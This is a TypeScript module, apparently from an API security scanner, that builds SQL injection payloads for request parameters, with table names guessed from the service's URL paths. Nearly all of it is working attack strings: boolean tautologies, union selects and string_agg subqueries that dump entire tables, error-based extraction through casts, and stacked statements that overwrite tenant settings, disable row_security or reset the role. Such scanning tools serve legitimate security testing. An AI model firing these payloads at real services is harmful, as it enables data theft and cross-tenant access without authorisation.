import { isIdName, plainName } from './names.ts'

const orderNames =
  /^(sort|sortby|order|orderby|orderdirection|direction|dir|by|column|columns|fields|groupby|select)$/

/** True for the names of parameters that often become part of a statement as they are. */
export function isOrderName(name: string): boolean {
  return orderNames.test(plainName(name))
}

/** What is tried in a place called `name`. `tables` are guesses, made of the service's own paths. */
export function injectionsFor(
  name: string,
  { tables, tenant }: { tables: readonly string[]; tenant: string },
): string[] {
  if (isOrderName(name)) return [...tables.flatMap(inOrder), '(select 1/0)', '1; reset all', '"1"" desc--']
  const settings = ['app.tenant_id', 'app.tenant', 'app.current_tenant', 'app.org_id'].map(
    (setting) => `select set_config('${setting}', '${tenant}', false)`,
  )
  return [
    ...[`' or '1'='1`, `' or 1=1 --`, `') or ('1'='1`, `%' or '1'='1' --`, `%') or 1=1 --`, `' or true) --`],
    ...[`x' or "id" is not null --`, `'/**/or/**/'1'='1`, `\\' or 1=1 --`, `" or "1"="1`],
    ...(isIdName(name) ? ['0 or 1=1', '0) or (1=1', '-1 or true --'] : []),
    ...tables.flatMap(inText),
    ...[
      `'; ${settings.join('; ')}; --`,
      `'; reset all; --`,
      `'; set row_security = off; --`,
      `'; set role none; --`,
    ],
  ]
}

/** Every row of a table as one text, in whatever schema is searched. */
function everything(table: string): string {
  return `(select string_agg(x::text, ' ') from "${table}" x)`
}

function inText(table: string): string[] {
  return [
    `' || ${everything(table)} || '`,
    `' || cast(${everything(table)} as int) || '`,
    `' union all select * from "${table}" --`,
    `' union all select ${everything(table)} --`,
  ]
}

function inOrder(table: string): string[] {
  return [`cast(${everything(table)} as int)`, `1, cast(${everything(table)} as int) --`]
}

/** What tables may be called, from the names in paths. */
export function guessTables(paths: readonly string[]): string[] {
  const parts = paths.flatMap((path) =>
    path.split('/').filter((part) => part !== '' && !part.startsWith('{')),
  )
  const names = parts.map((part) => part.toLowerCase().replace(/[^a-z0-9_]/g, '_'))
  return [...new Set(names)].filter((name) => /^[a-z_]/.test(name)).slice(0, 3)
}
